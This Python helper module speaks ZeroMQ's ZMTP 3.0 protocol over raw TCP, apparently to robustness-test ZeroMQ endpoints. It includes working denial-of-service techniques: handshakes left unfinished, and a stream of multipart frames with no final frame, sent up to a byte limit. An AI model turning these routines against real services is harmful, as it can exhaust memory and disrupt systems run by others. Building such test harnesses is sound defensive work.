"""ZMTP 3.0 spoken by hand over a plain TCP socket (NULL mechanism), for the attacks libzmq will
not make: a message whose last frame never comes (libzmq hands a peer's multipart message over
only once it is complete), a handshake that is never finished, a peer that never answers a
heartbeat. Frames as in https://rfc.zeromq.org/spec/23/."""

import socket
import struct


def greeting():
    # Signature, version 3.0, mechanism NULL, as-server 0, filler.
    return b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00") + \
        b"\x00" * 32


def command(name, body=b""):
    payload = bytes([len(name)]) + name + body
    if len(payload) < 256:
        return bytes([0x04, len(payload)]) + payload
    return b"\x06" + struct.pack(">Q", len(payload)) + payload


def ready(socket_type):
    prop = b"Socket-Type"
    return command(b"READY", bytes([len(prop)]) + prop +
                   struct.pack(">I", len(socket_type)) + socket_type)


def frame(data, more):
    flags = 0x01 if more else 0x00
    if len(data) < 256:
        return bytes([flags, len(data)]) + data
    return bytes([flags | 0x02]) + struct.pack(">Q", len(data)) + data


def connect(address, port, socket_type=b"DEALER", handshake=True):
    """A TCP connection to a ZeroMQ socket, past its handshake as `socket_type` (b"DEALER" for a
    ROUTER, b"PUB" for a SUB) unless `handshake` is false."""
    s = socket.create_connection((address, port), timeout=10)
    if handshake:
        s.sendall(greeting())
        got = b""
        while len(got) < 64:
            chunk = s.recv(64 - len(got))
            if not chunk:
                raise ConnectionError("closed during the greeting")
            got += chunk
        s.sendall(ready(socket_type))
    return s


def send_unfinished(sock, frame_size, limit_bytes):
    """Frames of `frame_size` bytes with the MORE flag, never a last one, until `limit_bytes` are
    sent or the peer hangs up; returns the bytes sent."""
    chunk = frame(b"x" * frame_size, more=True)
    sent = 0
    try:
        while sent < limit_bytes:
            sock.sendall(chunk)
            sent += len(chunk)
    except OSError:
        pass
    return sent
